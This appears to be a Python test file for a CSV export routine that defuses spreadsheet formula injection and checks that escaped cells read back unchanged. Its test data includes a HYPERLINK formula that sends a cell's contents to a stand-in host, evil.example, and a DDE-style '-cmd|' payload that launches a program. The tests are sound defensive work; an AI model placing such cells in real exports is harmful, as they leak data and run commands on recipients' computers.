"""Tables on their way out: no cell is a live formula, and what comes back as an import says what it said."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from reviews import tables
from reviews.tables.export import as_written, harmless, written

FORMULA = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Ana\")"


@pytest.mark.parametrize("cell, out", [
    (FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r'=1"), ("  =1", "'  =1"), ("\u00a0=1", "'\u00a0=1"), ('"=1', "'\"=1"), ("“=1", "'“=1"),
    ("＝1", "'＝1"), ("＠x", "'＠x"), ("'=1", "''=1"), ("''=1", "'''=1"), ("x\n=1", "x\n'=1"), ("a;=1", "a;'=1"),
    ("-", "'-"), ("−3", "'−3"),
    ("Ana", "Ana"), ("'t Hooft", "'t Hooft"), ("a=1", "a=1"), ("3 - 2", "3 - 2"), ("ana@example.com", "ana@example.com"),
    (-3.5, "-3.5"), (1e-7, "0.0000001"), (-3, "-3"), (Decimal("-0.50"), "-0.50"), (None, ""), ("", ""),
])
def test_a_cell_never_runs_and_a_number_of_ours_stays_one(cell, out):
    assert harmless(cell) == out
    if isinstance(cell, str):
        assert as_written(out) == cell


@given(st.text(alphabet="'=+-@＝\t\r\n \";“ax", max_size=12))
@example("\n\n=x")
@example("';'=x")
def test_any_words_come_back_as_they_were_and_none_are_live(text):
    out = harmless(text)
    assert as_written(out) == text
    starts = [piece.lstrip(" \"“") for line in out.replace("\r", "\n").split("\n") for piece in line.split(";")]
    assert [piece for piece in starts if piece[:1] in ("=", "+", "-", "@", "＝")] == []


def test_a_file_that_a_spreadsheet_opens_with_its_letters_right():
    data = written(["name", "value"], [["Řehoř", -3.5], ['say "hi"', None], [FORMULA, "x\ny"]])
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == [
        ["name", "value"], ["Řehoř", "-3.5"], ['say "hi"', ""], ["'" + FORMULA, "x\ny"]]


def test_what_went_out_comes_in_again():
    rows = [["=Ana", "- one\n- two"], ["Zoë; =x", "'quoted'"], ["@home", "a,b"], ["'=x", "“ok”"]]
    table = tables.read(written(["=name", "note"], rows), "export.csv")
    assert table.headers == ("=name", "note")
    assert [list(row.values) for row in table.rows] == rows
